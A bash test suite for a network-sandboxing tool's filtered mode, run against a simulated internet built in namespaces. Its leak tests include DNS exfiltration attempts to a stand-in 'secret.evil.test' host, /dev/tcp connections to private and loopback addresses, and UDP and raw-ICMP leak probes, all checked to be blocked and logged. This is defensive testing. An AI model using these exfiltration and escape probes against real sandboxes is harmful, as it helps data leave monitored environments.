#!/bin/bash
# SPDX-License-Identifier: MIT
# t-netns.sh - --net filtered: the forwarder, the resolver, the gateway's
# rules and the audit log, against a test internet (tests/netlib.sh) built
# in namespaces this file makes; nothing leaves the machine
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/netlib.sh"

net_start "$@"

proj=$(mkproj netns)
cd "$proj" || exit 1
LOG="$JT_HOME/netns-audit.jsonl"
CA="$NET_DIR/ca.pem"

NJ_OPTS=(--ro "$NET_DIR")	# the test CA, for the clients in the jail
install_timed "$proj"

# fast_fail NAME OUT: timed.py's OUT is a failure that came at once
fast_fail() { fails_within "$1" 5 "$2"; }

# jail_command_pid TOP ARG: the pid (on the host) of a process below TOP
# running "sleep ARG" in another network namespace than this shell's: the
# COMMAND of a jail this file started
jail_command_pid()
{
	local me p
	me=$(readlink /proc/$$/ns/net)
	for p in $(descendants "$1"); do
		[ "$(tr '\0' ' ' <"/proc/$p/cmdline" 2>/dev/null)" = "sleep $2 " ] &&
			[ "$(readlink "/proc/$p/ns/net" 2>/dev/null)" != "$me" ] &&
			{ echo "$p"; return; }
	done
}
work_gw="$STAGE/netns-gw-$JT_USER"
rm -rf "$work_gw"
mkdir -p "$work_gw"
chown "$JT_USER:" "$work_gw"

# ---- what must work ------------------------------------------------------

net_reset_logs
out=$(nj --allow allowed.test -- curl -sS --max-time 5 http://allowed.test/ 2>&1)
assert_match "curl: an allowed name over HTTP" "^hello server=$NET_IP_ALLOWED port=80 host=allowed.test" "$out"
assert_eq "curl: one net.allow event" 1 "$(events net.allow)"

out=$(nj --allow allowed.test -- curl -sS --max-time 5 --cacert "$CA" https://allowed.test/ 2>&1)
assert_match "curl: an allowed name over HTTPS" "^hello server=$NET_IP_ALLOWED port=443 host=allowed.test sni=allowed.test" "$out"

out=$(nj --allow dnsonly.test -- curl -sS --max-time 5 http://dnsonly.test/ 2>&1)
assert_match "a name only DNS knows, resolved on the host" "^hello server=$NET_IP_DNSONLY " "$out"

rm -rf "$proj/clone"
out=$(nj --allow allowed.test -- git clone -q http://allowed.test/repo.git "$proj/clone" 2>&1)
assert_eq "git clone over dumb HTTP" "jail test repo" "$(cat "$proj/clone/README" 2>/dev/null || echo "$out")"

out=$(nj --allow allowed.test -- python3 "$proj/timed.py" https://allowed.test/ 10 "$CA" 2>&1)
assert_match "python urllib over HTTPS" "^ok .* server=$NET_IP_ALLOWED port=443" "$out"

out=$(nj --allow allowed.test --env NODE_EXTRA_CA_CERTS="$CA" -- node -e '
fetch("https://allowed.test/").then(r => r.text()).then(t => process.stdout.write(t))
	.catch(e => { console.error(String(e.cause || e)); process.exit(1); })' 2>&1)
assert_match "node fetch over HTTPS" "^hello server=$NET_IP_ALLOWED port=443" "$out"

out=$(nj --allow allowed.test -- sh -c 'curl -sS --max-time 20 -o /dev/null -w "%{size_download}" http://allowed.test/bytes/52428800' 2>&1)
assert_eq "50 MB arrive whole" 52428800 "$out"

out=$(nj --allow allowed.test -- python3 -c '
import socket
s = socket.create_connection(("allowed.test", 80), timeout=5)
s.sendall(b"GET /hello HTTP/1.0\r\nHost: allowed.test\r\n\r\n")
s.shutdown(socket.SHUT_WR)
data = b""
while True:
    b = s.recv(65536)
    if not b:
        break
    data += b
print(data.split(b"\r\n\r\n", 1)[1].decode().strip())' 2>&1)
assert_match "half-close: the reply still comes after the request's FIN" "^hello server=$NET_IP_ALLOWED" "$out"

out=$(nj --allow allowed.test --allow '*.allowed.test' -- curl -sS --max-time 5 http://www.allowed.test/ 2>&1)
assert_match "a suffix pattern allows a subdomain" "^hello .*host=www.allowed.test" "$out"

# ---- what must fail, and fail at once (within 5 s, not by a timeout) -------

net_reset_logs
out=$(nj --allow allowed.test -- python3 "$proj/timed.py" http://other.test/ 2>&1)
fast_fail "a denied name fails at once, not by timeout (resolver)" "$out"
assert_match "the resolver answers NXDOMAIN for it, logged as dns.deny" '"event":"dns.deny","name":"other.test","qtype":"A","reason":"not allowed"' "$(cat "$LOG")"

out=$(nj --allow allowed.test -- python3 -c '
import socket, time
t = time.monotonic()
s = socket.create_connection(("'"$NET_IP_OTHER"'", 80), timeout=10)
s.sendall(b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n")
try:
    print("fail %.3f" % (time.monotonic() - t) if not s.recv(100) else "got data")
except Exception as e:
    print("fail %.3f %s" % (time.monotonic() - t, e))' 2>&1)
fast_fail "a denied Host is reset at once" "$out"
assert_match "net.deny names host, address, port and reason" '"event":"net.deny","host":"other.test","ip":"198.51.100.11","port":80,"reason":"not allowed"' "$(cat "$LOG")"

out=$(nj --allow allowed.test -- python3 "$proj/timed.py" http://allowed.test:8080/ 2>&1)
fast_fail "an allowed name on another port fails" "$out"
assert_match "... logged as port not allowed" '"host":"allowed.test","ip":"198.51.100.10","port":8080,"reason":"port not allowed"' "$(cat "$LOG")"
out=$(nj --allow allowed.test:8080 -- curl -sS --max-time 5 http://allowed.test:8080/ 2>&1)
assert_match "... and works once that port is allowed" "^hello server=$NET_IP_ALLOWED port=8080" "$out"

out=$(nj --allow allowed.test -- python3 "$proj/timed.py" "http://$NET_IP_OTHER/" 2>&1)
fast_fail "an IP literal fails unless allowed" "$out"
out=$(nj --allow "$NET_IP_OTHER" -- curl -sS --max-time 5 "http://$NET_IP_OTHER/" 2>&1)
assert_match "an allowed IP literal works" "^hello server=$NET_IP_OTHER " "$out"
out=$(nj --allow 203.0.113.0/24 -- curl -sS --max-time 5 "http://203.0.113.11/" 2>&1)
assert_match "an allowed CIDR works" "^hello server=203.0.113.11 " "$out"
out=$(nj --allow allowed.test --deny allowed.test -- python3 "$proj/timed.py" http://allowed.test/ 2>&1)
fast_fail "--deny wins over --allow" "$out"

# The forwarder dials what it resolved, never the address the jail chose
net_reset_logs
out=$(nj --allow allowed.test -- curl -sS --max-time 5 --resolve "allowed.test:80:$NET_IP_DENIED" http://allowed.test/ 2>&1)
assert_match "Host of an allowed name sent to a denied address reaches the allowed host" "^hello server=$NET_IP_ALLOWED port=80" "$out"
out=$(nj --allow allowed.test -- curl -sS --max-time 5 --cacert "$CA" --resolve "allowed.test:443:$NET_IP_DENIED" https://allowed.test/ 2>&1)
assert_match "SNI of an allowed name sent to a denied address reaches the allowed host" "^hello server=$NET_IP_ALLOWED port=443 .*sni=allowed.test" "$out"
assert_nomatch "the denied address saw no connection" "^conn $NET_IP_DENIED " "$(net_log conn)"

# A TLS server name must match the name the resolver handed out for the
# address (both names are allowed here)
out=$(nj --allow allowed.test --allow net2.test -- sh -c "getent hosts allowed.test >/dev/null; curl -sS --max-time 5 --cacert $CA --resolve net2.test:443:$NET_IP_ALLOWED https://net2.test/" 2>&1)
assert_nomatch "SNI that does not match the pinned name is refused" "^hello" "$out"
assert_match "... logged as such" '"host":"net2.test","ip":"198.51.100.10","port":443,"reason":"server name does not match' "$(cat "$LOG")"
out=$(nj --allow allowed.test -- python3 -c '
import socket, ssl
socket.gethostbyname("allowed.test")
ctx = ssl.create_default_context(cafile="'"$CA"'")
ctx.check_hostname = False
try:
    s = ctx.wrap_socket(socket.create_connection(("'"$NET_IP_ALLOWED"'", 443), timeout=5))
    print("connected")
except Exception as e:
    print("refused", e)' 2>&1)
assert_match "no SNI on 443 to a pinned address is refused" "^refused" "$out"

# Names that resolve to special addresses
for n in local.test private.test meta.test self.test; do
	out=$(nj --allow "$n" -- python3 "$proj/timed.py" "http://$n/" 2>&1)
	assert_match "$n: refused" "^fail" "$out"
	assert_match "$n: the reason is logged" '"name":"'"$n"'","qtype":"A","reason":"(private address|address of this host)"' "$(cat "$LOG")"
	out=$(nj --allow "$n" -- curl -sS --max-time 5 --resolve "$n:80:$NET_IP_ALLOWED" "http://$n/" 2>&1)
	assert_nomatch "$n: refused when the jail picks the address itself" "^hello" "$out"
	assert_match "$n: ... and logged" '"event":"net.deny","host":"'"$n"'",.*"reason":"(private address|address of this host)"' "$(cat "$LOG")"
done
out=$(nj --allow 127.0.0.1 -- curl -sS --max-time 5 "http://127.0.0.1:$NET_HOST_PORT/" 2>&1)
assert_nomatch "the host's loopback is not the jail's" "^hello" "$out"

# No DNS exfiltration: the real DNS server never hears a name not allowed
net_reset_logs
nj --allow dnsonly.test -- sh -c '
	getent hosts secret.evil.test; getent ahosts x1.secret.evil.test
	curl -s --max-time 3 http://secret.evil.test/
	python3 -c "import socket; socket.getaddrinfo(\"y2.secret.evil.test\", 80)"
	getent hosts dnsonly.test' >/dev/null 2>&1
assert_nomatch "the DNS server saw no query for a name not allowed" "evil" "$(net_log dns)"
assert_match "... while allowed names were resolved" "^query dnsonly.test " "$(net_log dns)"
assert_match "TXT for an allowed name is refused" "status: REFUSED" \
	"$(nj --allow allowed.test -- dig +tries=1 +time=2 @"$JAIL_GATEWAY_IP" allowed.test TXT 2>&1)"
assert_match "HTTPS records of an allowed name are empty" "status: NOERROR.*ANSWER: 0" \
	"$(nj --allow allowed.test -- dig +tries=1 +time=2 @"$JAIL_GATEWAY_IP" allowed.test HTTPS 2>&1 | tr '\n' ' ')"
out=$(nj --allow allowed.test -- python3 -c '
import socket
try:
    s = socket.create_connection(("'"$JAIL_GATEWAY_IP"'", 53), timeout=3)
    print("data" if s.recv(10) else "closed")
except ConnectionResetError as e:
    print("reset", e)
except Exception as e:
    print("other", e)' 2>&1)
assert_match "DNS over TCP is refused cleanly" "^(reset|closed)" "$out"

# UDP and ICMP leave nothing. leak_probe IP (python) sends one datagram
# to the sink and one ICMP echo request (ping socket, raw socket) to IP,
# printing "udp sent", "icmp sent" or "... refused ERR" for each; the
# checks below look at what reached the internet (the sink's log, the
# internet's ICMP InMsgs counter) and run every time against a leak path
# too, so a sink that stopped working shows.
leak_probe='
import socket, sys
ip = sys.argv[1]
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"L" * 9, (ip, 9999))
    print("udp sent")
except OSError as e:
    print("udp refused", e)
for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
    try:
        s = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
        s.sendto(b"\x08\x00\xf7\xfe\x00\x01\x00\x00", (ip, 0))
        print("icmp sent")
    except OSError as e:
        print("icmp refused", e)'
# leak_checks WHAT EXPECT OUT ICMP_BEFORE: EXPECT "leak" (a control: the
# sink got the datagram, the internet the echo request) or "none"
leak_checks()
{
	local what=$1 expect=$2 out=$3 before=$4 udp icmp
	wait_until 3 test -s "$NET_DIR/udp.log"
	udp=$(net_log udp)
	icmp=$(net_icmp_in InMsgs)
	if [ "$expect" = leak ]; then
		assert_match "control, $what: the datagram reached the UDP sink" \
			"^udp [0-9.]+ 9$" "$udp"
		if printf '%s\n' "$out" | grep -q '^icmp sent'; then
			assert_match "control, $what: the echo request reached the internet" \
				"^[1-9]" "$((icmp - before))"
		fi
	else
		assert_eq "$what: no UDP datagram reached the internet" "" "$udp"
		assert_eq "$what: no ICMP message reached the internet" "$before" "$icmp"
	fi
}
# Controls with a leak path, the same probe and checks: root in H (raw
# socket allowed), and a jail with --net host (its datagram goes out as
# the host's)
net_reset_logs
before=$(net_icmp_in InMsgs)
out=$(python3 -c "$leak_probe" "$NET_IP_ALLOWED" 2>&1)
assert_match "control, outside any jail: the raw ICMP socket sent" "^icmp sent" "$out"
leak_checks "outside any jail" leak "$out" "$before"
net_reset_logs
before=$(net_icmp_in InMsgs)
out=$(jail --net host -- python3 -c "$leak_probe" "$NET_IP_ALLOWED" 2>/dev/null)
assert_match "control, --net host: the datagram was sent" "^udp sent" "$out"
leak_checks "a jail with --net host" leak "$out" "$before"
# The gateway's own rules, shown without the jail's other fences: root
# enters the network namespace of a running jail, where its raw socket
# works, and sends the same; nothing may reach the internet
net_reset_logs
bgj "$work_gw/bg.log" "$work_gw/bg.out" --allow allowed.test -- sleep 31.25
gw_pid=
for _ in $(seq 100); do
	gw_pid=$(jail_command_pid "${NET_BG[-1]}" 31.25)
	[ -n "$gw_pid" ] && break
	sleep 0.1
done
if [ -n "$gw_pid" ]; then
	before=$(net_icmp_in InMsgs)
	out=$(nsenter --net="/proc/$gw_pid/ns/net" python3 -c "$leak_probe" \
		"$NET_IP_ALLOWED" 2>&1)
	assert_eq "root in the jail's network namespace sent both (udp, raw icmp)" \
		"icmp sent|udp sent" \
		"$(printf '%s\n' "$out" | grep -E '^(udp|icmp) sent' | sort -u | paste -sd'|')"
	leak_checks "the jail's network namespace, root" none "$out" "$before"
	kill "$gw_pid"	# the jail ends with its COMMAND
else
	t_fail "the jail's network namespace, root" "its COMMAND was not found"
	kill -9 "$(jail_command_pid "${NET_BG[-1]}" 31.25)" 2>/dev/null
fi
wait "${NET_BG[@]}" 2>/dev/null	# jail, once its COMMAND is gone
NET_BG=()
# And COMMAND itself: its UDP fails at once, its ICMP sockets are refused
# (no CAP_NET_RAW, and ping_group_range covers no group in its namespace)
net_reset_logs
icmp_before=$(net_icmp_in InMsgs)
out=$(nj --allow allowed.test -- python3 -c '
import socket, time
for host, port in (("'"$NET_IP_ALLOWED"'", 9999), ("'"$NET_IP_ALLOWED"'", 443)):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.connect((host, port))
    t = time.monotonic()
    try:
        s.send(b"x" * 100)
        s.recv(100)
        print("answered")
    except Exception as e:
        print("fail %.3f %s" % (time.monotonic() - t, e))
for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
    try:
        s = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
        s.sendto(b"\x08\x00\xf7\xfe\x00\x01\x00\x00", ("'"$NET_IP_ALLOWED"'", 0))
        print("icmp sent")
    except Exception as e:
        print("icmp refused", e)' 2>&1)
fails_within "UDP is rejected at once (QUIC falls back)" 5 "$out"
assert_eq "COMMAND's ICMP sockets are refused (ping socket, raw socket)" 2 \
	"$(printf '%s\n' "$out" | grep -c '^icmp refused')"
leak_checks "COMMAND" none "$out" "$icmp_before"
out=$(nj --allow allowed.test -- sh -c 'grep -v " lo$" /proc/net/if_inet6; python3 -c "
import socket
s = socket.socket(socket.AF_INET6)
try:
    s.connect((\"2001:db8::1\", 80))
except OSError as e:
    print(e.errno)"' 2>&1)
assert_eq "no IPv6 but loopback; IPv6 connects fail with ENETUNREACH" 101 "$out"

# ---- the audit log -----------------------------------------------------------

# (exec events have their own tests in t-record.sh)
err=$(nj --no-exec-log --allow allowed.test -- sh -c '
	curl -s --max-time 5 -o /dev/null http://allowed.test/
	python3 -c "import socket; socket.gethostbyname(\"other.test\")" 2>/dev/null
	curl -s --max-time 5 -o /dev/null --resolve other.test:80:'"$NET_IP_OTHER"' http://other.test/
	true' 2>&1)
log_ok=$(python3 - "$LOG" <<'PY'
import json, re, sys
n = {}
for line in open(sys.argv[1]):
    o = json.loads(line)
    assert list(o)[:3] == ["ts", "jail", "event"], line
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", o["ts"]), line
    n[o["event"]] = n.get(o["event"], 0) + 1
    if o["event"] == "net.allow":
        assert o["host"] == "allowed.test" and o["ip"] == "198.51.100.10", line
        assert o["port"] == 80 and o["bytes_up"] > 0 and o["bytes_down"] > 0, line
        assert o["duration_ms"] >= 0, line
print(" ".join("%s=%d" % kv for kv in sorted(n.items())))
PY
)
assert_eq "one well-formed line per event" "dns.deny=1 exit=1 net.allow=1 net.deny=1 start=1" "$log_ok"
assert_match "the summary line counts the denials" "^jail: 2 requests were denied; see $LOG" "$err"

# A forwarder that handled nothing is not waited for at the end; one
# that has something waiting in its sockets is: a query sent as COMMAND
# exits is still in the log, before the exit line
logged=0
for _ in 1 2 3 4 5; do
	nj -- python3 -c '
import socket
q = bytes.fromhex("123401000001000000000000") + b"\x04last\x04test\x00\x00\x01\x00\x01"
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(q, ("198.51.100.53", 53))' \
		>/dev/null 2>&1
	[ "$(grep -c '"event":"dns.deny".*"name":"last.test"' "$LOG")" = 1 ] &&
		tail -n 1 "$LOG" | grep -q '"event":"exit"' &&
		logged=$((logged + 1))
done
assert_eq "a query sent as COMMAND exits is logged, before the exit line" 5 "$logged"

# ---- COMMAND's first instruction ----------------------------------------------

# The gateway's rules, the veth and the forwarder's sockets are in place
# before COMMAND runs: connections made as the very first thing it does are
# judged exactly as later ones. ask HOST PORT NAME prints NAME and the
# answer's "hello" line, or "refused"
cat >"$proj/first.sh" <<'SH'
# A refused connection may be reset before the request is written
trap '' PIPE
ask()
{
	local r
	{ exec 3<>"/dev/tcp/$1/$2"; } 2>/dev/null || { echo "$3 refused"; return; }
	printf 'GET /hello/first HTTP/1.0\r\nHost: %s\r\n\r\n' "$3" >&3 2>/dev/null
	r=$(timeout 5 cat <&3 2>/dev/null | tr -d '\r' | grep -m1 '^hello')
	exec 3<&-
	echo "$3 ${r:-refused}"
}
ask "$1" 80 allowed.test
ask 10.1.2.3 80 private.test
ask 127.0.0.1 "$2" localhost
ask "$3" "$4" host.jail.internal
SH
n_right=0 n_logged=0
for _ in $(seq 20); do
	out=$(nj --allow allowed.test --allow private.test -- bash "$proj/first.sh" \
		"$NET_IP_ALLOWED" "$NET_HOST_PORT" "$JAIL_GATEWAY_IP" \
		"$NET_HOST_PORT_OTHER" 2>&1)
	[ "$(printf '%s\n' "$out" | grep -c '^allowed.test hello server='"$NET_IP_ALLOWED"' ')" = 1 ] &&
		[ "$(printf '%s\n' "$out" | grep -c ' refused$')" = 3 ] &&
		n_right=$((n_right + 1))
	grep -q '"event":"net.deny","host":"private.test",.*"reason":"private address"' "$LOG" &&
		grep -q '"reason":"host port not allowed"' "$LOG" &&
		n_logged=$((n_logged + 1))
done
assert_eq "connections at COMMAND's start: allowed through, private, loopback and host port refused (20 runs)" \
	20 "$n_right"
assert_eq "... each refusal logged with its reason (20 runs)" 20 "$n_logged"

# ---- --allow-host-port ------------------------------------------------------

out=$(nj --allow-host-port "$NET_HOST_PORT" -- sh -c "
	curl -sS --max-time 5 http://$JAIL_GATEWAY_IP:$NET_HOST_PORT/
	curl -sS --max-time 5 http://host.jail.internal:$NET_HOST_PORT/" 2>&1)
assert_eq "--allow-host-port reaches the host's 127.0.0.1, by address and by name" 2 \
	"$(printf '%s\n' "$out" | grep -c '^hello server=127.0.0.1 ')"
out=$(nj --allow-host-port "$NET_HOST_PORT" -- curl -sS --max-time 5 "http://$JAIL_GATEWAY_IP:$NET_HOST_PORT_OTHER/" 2>&1)
assert_nomatch "... and no other port of it" "^hello" "$out"
out=$(nj -- curl -sS --max-time 5 "http://$JAIL_GATEWAY_IP:$NET_HOST_PORT/" 2>&1)
assert_nomatch "without it the host's loopback is out of reach" "^hello" "$out"

# ---- the host's upstream proxy -----------------------------------------------

proxy="http://127.0.0.1:$NET_PROXY_PORT"
net_reset_logs
out=$(JT_EXTRA_ENV="https_proxy=$proxy" nj --allow allowed.test -- sh -c "
	curl -sS --max-time 5 --cacert $CA https://allowed.test/
	curl -sS --max-time 5 http://allowed.test/" 2>&1)
assert_eq "with https_proxy set, allowed HTTPS and HTTP work" 2 \
	"$(printf '%s\n' "$out" | grep -c "^hello server=$NET_IP_ALLOWED ")"
assert_eq "TLS goes out through the proxy with CONNECT, plain HTTP does not" \
	"CONNECT allowed.test:443 auth=none" "$(net_log proxy)"
assert_match "net.allow names the proxy" "\"proxy\":\"127.0.0.1:$NET_PROXY_PORT\"" "$(cat "$LOG")"
net_reset_logs
out=$(JT_EXTRA_ENV="HTTPS_PROXY=http://user:pa%40ss@127.0.0.1:$NET_PROXY_PORT" \
	nj --allow allowed.test -- curl -sS --max-time 5 --cacert "$CA" https://allowed.test/ 2>&1)
assert_match "HTTPS_PROXY with credentials" "^hello server=$NET_IP_ALLOWED " "$out"
assert_eq "... sent as Basic auth" "CONNECT allowed.test:443 auth=ok" "$(net_log proxy)"
net_reset_logs
out=$(JT_EXTRA_ENV="https_proxy=$proxy" nj --allow allowed.test -- curl -sS --max-time 5 \
	--cacert "$CA" --resolve "other.test:443:$NET_IP_OTHER" https://other.test/ 2>&1)
assert_eq "a denied name never reaches the proxy" "" "$(net_log proxy)"
out=$(JT_EXTRA_ENV="https_proxy=$proxy" nj --allow allowed.test --no-upstream-proxy -- \
	curl -sS --max-time 5 --cacert "$CA" https://allowed.test/ 2>&1)
assert_match "--no-upstream-proxy goes direct" "^hello server=$NET_IP_ALLOWED " "$out"
assert_eq "... the proxy saw nothing" "" "$(net_log proxy)"
out=$(JT_EXTRA_ENV="https_proxy=http://user:wrong@127.0.0.1:$NET_PROXY_PORT" \
	nj --allow allowed.test -- curl -sS --max-time 5 --cacert "$CA" https://allowed.test/ 2>&1)
assert_nomatch "a proxy that refuses: the connection fails" "^hello" "$out"
assert_match "... logged as net.error" '"event":"net.error",.*"error":"upstream proxy refused: 407"' "$(cat "$LOG")"

# ---- the forwarder stops: the jail has no way out ----------------------------

net_reset_logs
rm -f "$proj/ready" "$proj/go"
(
	nj --allow allowed.test -- sh -c "
		curl -sf --max-time 5 -o /dev/null http://allowed.test/hello/first &&
			touch $proj/ready
		i=0
		while [ ! -e $proj/go ] && [ \$i -lt 100 ]; do sleep 0.1; i=\$((i+1)); done
		curl -s --max-time 3 -o /dev/null http://allowed.test/hello/second
		curl -s --max-time 3 -o /dev/null http://$NET_IP_ALLOWED/hello/third" \
		>"$proj/killed.out" 2>&1
	echo $? >"$proj/killed.rc"
) &
bg=$!
if wait_until 10 test -e "$proj/ready"; then
	pids=$(pid_below "$bg" jail-fwd)
	assert_match "the forwarder runs outside the jail, in the host's namespace" "^[0-9]+$" "$(echo "$pids" | head -1)"
	for p in $pids; do
		kill -9 "$p"
	done
	t0=$(date +%s)
	touch "$proj/go"
	wait "$bg"
	assert_nomatch "after the forwarder died nothing reached the internet" "/(second|third)" "$(net_log http)"
	assert_match "the jail was stopped with it" "^[1-9][0-9]*$" "$(cat "$proj/killed.rc")"
	assert_eq "... within 10 s" 1 "$(($(date +%s) - t0 < 10))"
else
	wait "$bg"
	t_fail "the forwarder stops: the jail has no way out" "the first request failed: $(cat "$proj/killed.out")"
fi

net_cleanup
